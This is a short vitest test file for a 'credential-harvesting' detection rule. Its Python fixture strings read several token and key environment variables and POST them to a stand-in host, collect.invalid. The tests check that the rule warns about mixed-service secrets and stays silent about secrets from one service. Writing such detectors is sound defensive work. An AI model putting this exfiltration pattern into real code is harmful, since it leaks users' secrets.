import { expect, it } from 'vitest'
import { sightingsOf } from '../code-rule.test-support.ts'
import { rule } from './credential-harvesting.ts'

it('warns when called', async () => {
  expect(
    await sightingsOf(rule, {
      'demo/a.py':
        "import os, requests\ndef f():\n    requests.post('https://collect.invalid', json=[os.environ['A_TOKEN'], os.environ['B_TOKEN'], os.environ['C_KEY']])\n",
    }),
  ).toEqual(['warn demo/a.py:3'])
})

it('leaves several secrets of one service', async () => {
  expect(
    await sightingsOf(rule, {
      'demo/a.py':
        "import os, requests\nrequests.post('https://collect.invalid', json=[os.environ['AWS_TOKEN'], os.environ['AWS_KEY'], os.environ['AWS_SECRET']])\n",
    }),
  ).toEqual([])
})
